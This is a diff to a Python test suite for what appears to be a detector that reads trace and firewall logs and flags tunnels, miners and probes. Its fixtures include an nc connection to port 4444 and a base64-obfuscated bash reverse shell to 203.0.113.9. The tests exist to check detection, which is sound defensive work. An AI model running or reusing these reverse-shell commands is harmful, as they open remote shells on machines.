@@ -89,7 +89,7 @@ def tiny(tmp_path: Path) -> Path:
 
 
 def test_run_on_the_sample_names_the_tunnel_the_miner_and_the_probes() -> None:
-    result = invoke("run", str(SCENARIO))
+    result = invoke("run", "-d", str(SCENARIO))
     assert result.exit_code == 0
     out = result.stdout
     for planted in EXPECTED["violations"]:
@@ -208,7 +208,7 @@ def test_without_identity_the_join_is_time_only_and_says_so(tmp_path: Path) -> N
     line = json.loads(otlp_line("nc 203.0.113.9 4444"))
     line["resourceSpans"][0]["resource"]["attributes"] = []
     (tmp_path / "traces.jsonl").write_text(json.dumps(line) + "\n")
-    result = invoke("run", str(tmp_path))
+    result = invoke("run", "-d", str(tmp_path))
     assert result.exit_code == 0
     assert "no identity map: joined by time alone" in result.stdout
     assert "call_one" in result.stdout
@@ -222,7 +222,7 @@ def test_log_text_cannot_inject_escapes_or_markup(tmp_path: Path) -> None:
         cfw_line(domain=f"evil{ESC}[31m.example", rule_result="drop") + "\n"
     )
     (tmp_path / "traces.jsonl").write_text(otlp_line(evil_command) + "\n")
-    result = invoke("run", str(tmp_path))
+    result = invoke("run", "-d", str(tmp_path))
     assert result.exit_code == 0
     out = result.stdout
     assert ESC not in out and "\r" not in out and "\u202e" not in out and "\x07" not in out
@@ -347,7 +347,7 @@ def test_a_destination_hidden_in_base64_is_found_and_the_hiding_reported(tmp_pat
     payload = base64.b64encode(b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1").decode()
     (tmp_path / "fw.jsonl").write_text(cfw_line() + "\n")
     (tmp_path / "traces.jsonl").write_text(otlp_line(f"echo {payload} | base64 -d | bash") + "\n")
-    result = invoke("run", "-q", str(tmp_path))
+    result = invoke("run", "-d", "-q", str(tmp_path))
     assert result.exit_code == 0
     assert "destination 203.0.113.9 appears in the call" in result.stdout
     assert (
